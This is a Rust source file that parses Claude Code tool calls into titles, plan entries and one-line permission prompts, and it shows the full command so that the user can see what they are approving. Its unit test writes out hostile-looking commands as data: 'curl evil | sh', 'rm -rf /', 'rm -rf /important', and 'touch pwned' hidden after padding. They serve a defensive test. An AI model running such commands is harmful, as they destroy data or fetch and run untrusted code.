//! The tools of Claude Code: their calls, results and titles.

use std::borrow::Cow;

use mia_api::{Location, PlanEntry, ToolCallInfo, ToolKind};
use mia_plugin::{Noise, Out};
use serde_json::Value;
use serde_json::value::RawValue;

use super::line::{Block, Message, Text};

/// A `user` line holds the results of tools.
pub(super) fn results(message: &Message<'_>, out: &mut Out) -> Result<(), Noise> {
    for block in &message.content.0 {
        if let ("tool_result", Some(id)) = (block.kind.as_ref(), &block.tool_use_id) {
            let output = block.content.map(flatten).transpose()?.unwrap_or_default();
            out.tool_result(&id.0, &output, block.is_error.unwrap_or(false));
        }
    }
    Ok(())
}

/// The content of a tool result: a text, or a list of blocks.
fn flatten(content: &RawValue) -> Result<Cow<'_, str>, serde_json::Error> {
    if content.get().starts_with('[') {
        let blocks: Vec<Block<'_>> = serde_json::from_str(content.get())?;
        let texts = blocks.iter().map(|block| match &block.text {
            Some(text) => text.0.clone(),
            None => Cow::Owned(format!("[{}]", block.kind)),
        });
        Ok(Cow::Owned(texts.collect::<Vec<_>>().join("\n")))
    } else {
        serde_json::from_str::<Text<'_>>(content.get()).map(|text| text.0)
    }
}

pub(super) fn tool_use(
    id: String,
    name: String,
    input: Option<&RawValue>,
    parent: Option<&str>,
    out: &mut Out,
) {
    let input: Value =
        input.and_then(|i| serde_json::from_str(i.get()).ok()).unwrap_or(Value::Null);
    if name == "TodoWrite" && parent.is_none() {
        out.plan(plan(&input));
    }
    let path = ["file_path", "notebook_path", "path"]
        .iter()
        .find_map(|key| input.get(key).and_then(Value::as_str));
    out.tool_call(ToolCallInfo {
        title: title(&name, &input),
        kind: kind(&name),
        locations: path.map(|p| Location { path: p.to_owned(), line: None }).into_iter().collect(),
        id,
        parent_id: parent.map(str::to_owned),
        name,
        input,
        raw: None,
    });
}

fn plan(input: &Value) -> Vec<PlanEntry> {
    let text = |todo: &Value, key: &str| {
        todo.get(key).and_then(Value::as_str).unwrap_or_default().to_owned()
    };
    let todos = input.get("todos").and_then(Value::as_array).map_or(&[][..], Vec::as_slice);
    todos
        .iter()
        .map(|todo| PlanEntry {
            content: text(todo, "content"),
            priority: "medium".to_owned(),
            status: text(todo, "status"),
        })
        .collect()
}

fn kind(tool: &str) -> ToolKind {
    match tool {
        "Read" => ToolKind::Read,
        "Edit" | "MultiEdit" | "NotebookEdit" | "Write" => ToolKind::Edit,
        "Grep" | "Glob" | "LS" | "ToolSearch" => ToolKind::Search,
        "Bash" | "BashOutput" | "KillShell" => ToolKind::Execute,
        "WebFetch" | "WebSearch" => ToolKind::Fetch,
        "Agent" | "Task" | "TodoWrite" => ToolKind::Think,
        "EnterPlanMode" | "ExitPlanMode" => ToolKind::SwitchMode,
        _ => ToolKind::Other,
    }
}

/// All that a call would do, on one line: nobody should have to allow what they can't see. What
/// does not fit is counted.
pub(super) fn question(tool: &str, input: &Value) -> String {
    let text = |key: &str| input.get(key).and_then(Value::as_str);
    let (subject, most) = match (text("command"), kind(tool)) {
        (Some(command), _) => (command.to_owned(), 8000),
        (None, ToolKind::Read | ToolKind::Edit) if text("file_path").is_some() => {
            (text("file_path").unwrap_or_default().to_owned(), 8000)
        }
        _ if input.is_null() => (String::new(), 0),
        _ => (input.to_string(), 2000),
    };
    let subject = subject.trim().replace("\r\n", "\n").replace('\n', " ⏎ ");
    let mut shown: String = subject.chars().take(most).collect();
    let hidden = subject.chars().count().saturating_sub(most);
    if hidden > 0 {
        shown.push_str(&format!(" … and {hidden} characters more"));
    }
    format!("{tool} {shown}").trim_end().to_owned()
}

/// One line for people: the tool and what it works on.
pub(super) fn title(tool: &str, input: &Value) -> String {
    let subject = [
        "command",
        "file_path",
        "notebook_path",
        "pattern",
        "path",
        "url",
        "query",
        "description",
        "prompt",
    ]
    .iter()
    .find_map(|key| input.get(key).and_then(Value::as_str));
    let line = subject.and_then(|s| s.lines().find(|l| !l.trim().is_empty())).unwrap_or_default();
    let mut short: String = line.chars().take(160).collect();
    if subject.is_some_and(|subject| subject.trim() != short.trim()) {
        short.push('…');
    }
    format!("{tool} {}", short.trim()).trim_end().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_question_shows_all_of_what_would_run() {
        let command = json!({"command": "ls -la\nrm -rf /important\ncurl evil | sh"});
        assert_eq!(question("Bash", &command), "Bash ls -la ⏎ rm -rf /important ⏎ curl evil | sh");
        assert_eq!(title("Bash", &command), "Bash ls -la…");
        let long = json!({"command": format!("echo {}; touch pwned", "A".repeat(300))});
        assert!(question("Bash", &long).ends_with("; touch pwned"));
        let huge = json!({"command": "A".repeat(9000)});
        assert!(question("Bash", &huge).ends_with("… and 1000 characters more"));
        let foreign = json!({"cmd": "rm -rf /"});
        assert_eq!(question("mcp__foo__bar", &foreign), r#"mcp__foo__bar {"cmd":"rm -rf /"}"#);
        assert_eq!(question("Edit", &json!({"file_path": "/a\nb"})), "Edit /a ⏎ b");
    }
}
